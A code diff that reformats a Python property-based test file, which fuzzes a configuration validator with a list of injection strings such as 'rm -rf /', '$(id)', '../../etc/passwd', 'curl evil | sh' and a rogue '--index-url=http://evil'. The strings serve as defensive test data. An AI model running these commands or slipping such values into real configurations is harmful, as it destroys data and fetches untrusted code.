@@ -47,18 +47,34 @@ VALID = {
     "thresholds": {"regression_pct": 5},
 }
 INJECTIONS = [
-    "2.13.0+cpu\n", "2.13.0+cpu; rm -rf /", "$(id)", "`id`", "../../etc/passwd", "a\nRUN curl evil | sh",
-    'x" && echo pwned "', "debian:12 AS evil", "/abs/../../root", "9.1\n", "--index-url=http://evil",
-    "\x00", "ok\r", "é", "a" * 300,
-]  # fmt: skip
+    "2.13.0+cpu\n",
+    "2.13.0+cpu; rm -rf /",
+    "$(id)",
+    "`id`",
+    "../../etc/passwd",
+    "a\nRUN curl evil | sh",
+    'x" && echo pwned "',
+    "debian:12 AS evil",
+    "/abs/../../root",
+    "9.1\n",
+    "--index-url=http://evil",
+    "\x00",
+    "ok\r",
+    "é",
+    "a" * 300,
+]
 SAFE_ID = re.compile(r"\A[A-Za-z0-9][A-Za-z0-9._-]*\Z")
 WORKLOADS = ["gemm", "relu"]
 SCRATCH = Path(tempfile.mkdtemp(prefix="hostile-"))
 
 json_leaf = st.one_of(
-    st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
-    st.floats(allow_nan=False), st.text(max_size=40), st.sampled_from(INJECTIONS),
-)  # fmt: skip
+    st.none(),
+    st.booleans(),
+    st.integers(min_value=-(2**70), max_value=2**70),
+    st.floats(allow_nan=False),
+    st.text(max_size=40),
+    st.sampled_from(INJECTIONS),
+)
 json_value = st.recursive(
     json_leaf,
     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
@@ -128,8 +144,10 @@ def test_any_one_field_replaced_by_anything_is_accepted_safely_or_refused_with_i
 
 
 @settings(max_examples=100, deadline=None)
-@given(path=st.sampled_from([p for p in paths(VALID) if p and isinstance(p[-1], (str, int))]),
-       injection=st.sampled_from(INJECTIONS))  # fmt: skip
+@given(
+    path=st.sampled_from([p for p in paths(VALID) if p and isinstance(p[-1], (str, int))]),
+    injection=st.sampled_from(INJECTIONS),
+)
 def test_injections_in_any_string_field_never_get_through(path, injection):
     document = replaced(VALID, path, injection)
     try:
